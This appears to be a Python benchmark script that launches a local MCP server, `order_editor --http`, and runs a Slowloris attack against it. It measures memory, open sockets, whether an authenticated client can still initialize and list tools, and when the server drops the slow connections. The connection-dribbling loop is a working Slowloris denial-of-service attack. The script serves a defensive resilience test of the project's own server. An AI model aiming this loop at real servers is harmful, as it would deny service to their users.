#!/usr/bin/env python3
"""Slowloris against `order_editor --http`: N connections that send a request line and then one
header byte every few seconds, never finishing their headers. Reports what the server holds
(its RSS, open sockets) before, during and after, whether a client with the token can still
initialize and list the tools during the attack, and when the server closed the dribbling
connections.

    examples/slowloris.py target/debug/examples/order_editor N PORT"""
import json, os, socket, subprocess, sys, time, urllib.request

BIN, N, PORT = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
TOKEN = "slowloris-bench-token-0123456789"

def rss_kib(pid):
    for line in open(f"/proc/{pid}/status"):
        if line.startswith("VmRSS:"):
            return int(line.split()[1])

def sockets(pid):
    return sum(1 for fd in os.listdir(f"/proc/{pid}/fd") if os.readlink(f"/proc/{pid}/fd/{fd}").startswith("socket:"))

def post(message, extra):
    req = urllib.request.Request(f"http://127.0.0.1:{PORT}/mcp", data=json.dumps(message).encode(), headers={
        "Authorization": f"Bearer {TOKEN}", "Content-Type": "application/json",
        "Accept": "application/json, text/event-stream", "Host": f"127.0.0.1:{PORT}", **extra})
    t = time.monotonic()
    try:
        with urllib.request.urlopen(req, timeout=5) as r:
            r.read()
            return r.status, round((time.monotonic() - t) * 1000, 1)
    except Exception as e:
        return f"failed: {type(e).__name__}", round((time.monotonic() - t) * 1000, 1)

def initialize():
    """A legacy `initialize` (opens a session), then a 2026-07-28 `tools/list`: (status, ms) each."""
    opened = post({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {
        "protocolVersion": "2025-11-25", "capabilities": {}, "clientInfo": {"name": "bench", "version": "0"}}}, {})
    listed = post({"jsonrpc": "2.0", "id": 2, "method": "tools/list", "params": {"_meta": {
        "io.modelcontextprotocol/protocolVersion": "2026-07-28", "io.modelcontextprotocol/clientCapabilities": {},
        "io.modelcontextprotocol/clientInfo": {"name": "bench", "version": "0"}}}},
        {"MCP-Protocol-Version": "2026-07-28", "Mcp-Method": "tools/list"})
    return {"initialize": opened, "tools/list": listed}

env = dict(os.environ, BRIDGE_MCP_TOKEN=TOKEN)
server = subprocess.Popen([BIN, "--http", f"127.0.0.1:{PORT}"], env=env, stdin=subprocess.DEVNULL,
                          stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
for _ in range(100):
    try:
        socket.create_connection(("127.0.0.1", PORT), timeout=0.2).close(); break
    except OSError:
        time.sleep(0.1)
time.sleep(0.5)
pid = server.pid
print(f"idle: rss {rss_kib(pid)} KiB, sockets {sockets(pid)}, initialize {initialize()}")
conns, refused = [], 0
start = time.monotonic()
for i in range(N):
    try:
        s = socket.create_connection(("127.0.0.1", PORT), timeout=2)
        s.sendall(f"POST /mcp HTTP/1.1\r\nHost: 127.0.0.1:{PORT}\r\nX-a: ".encode())
        conns.append(s)
    except OSError:
        refused += 1
time.sleep(1)
print(f"attack: {N} opened ({refused} refused at connect), server rss {rss_kib(pid)} KiB, sockets {sockets(pid)}, "
      f"initialize during attack {initialize()}")
closed_at = {}
deadline = time.monotonic() + 45
while time.monotonic() < deadline and len(closed_at) < len(conns):
    for i, s in enumerate(conns):
        if i in closed_at:
            continue
        try:
            s.sendall(b"a")
            s.setblocking(False)
            try:
                if s.recv(1) == b"":
                    closed_at[i] = time.monotonic() - start
            except BlockingIOError:
                pass
            finally:
                s.setblocking(True)
        except OSError:
            closed_at[i] = time.monotonic() - start
    time.sleep(2)
times = sorted(closed_at.values())
early = sum(1 for t in times if t < 10)
print(f"closed by the server: {len(times)} of {len(conns)}; first at {times[0]:.1f} s, last at {times[-1]:.1f} s; "
      f"{early} within 10 s, {len(times) - early} later" if times else "closed by the server: none")
print(f"after: rss {rss_kib(pid)} KiB, sockets {sockets(pid)}, initialize {initialize()}")
server.kill()
